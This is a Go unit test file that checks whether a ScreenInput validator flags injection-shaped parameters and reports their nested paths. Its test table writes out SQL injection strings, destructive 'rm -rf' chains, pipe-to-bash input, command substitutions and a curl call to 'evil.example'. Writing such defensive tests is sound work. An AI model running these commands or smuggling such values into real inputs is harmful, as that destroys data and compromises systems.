package validation

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestScreenInput_DetectsInjectionShapes(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  string
	}{
		{"union select", "x' UNION SELECT password FROM users --", "SQL union select"},
		{"select from", "select id, name from accounts where 1=1", "SQL select statement"},
		{"drop table", "'); DROP TABLE invocations; --", "SQL mutation statement"},
		{"chained rm", "report.txt; rm -rf /", "chained shell command"},
		{"pipe to shell", "cat config | bash", "pipe to shell"},
		{"command substitution", "file-$(whoami).log", "command substitution"},
		{"backticks", "name-`id`", "backtick substitution"},
		{"conditional chain", "true && curl evil.example", "conditional shell chain"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			issues := ScreenInput(map[string]interface{}{"arg": tt.value})
			require.NotEmpty(t, issues)

			found := false
			for _, issue := range issues {
				if issue.Message == "suspicious content: "+tt.want {
					found = true
				}
			}
			assert.True(t, found, "expected %q in %v", tt.want, issues)
		})
	}
}

func TestScreenInput_CleanParams(t *testing.T) {
	issues := ScreenInput(map[string]interface{}{
		"query":       "how do token buckets refill",
		"max_results": 10,
		"filters":     map[string]interface{}{"lang": "en"},
	})

	assert.Empty(t, issues)
}

func TestScreenInput_ReportsNestedPaths(t *testing.T) {
	issues := ScreenInput(map[string]interface{}{
		"outer": map[string]interface{}{
			"cmds": []interface{}{"ok", "x; rm -rf /tmp"},
		},
	})

	require.Len(t, issues, 1)
	assert.Equal(t, "outer.cmds[1]", issues[0].Path)
}
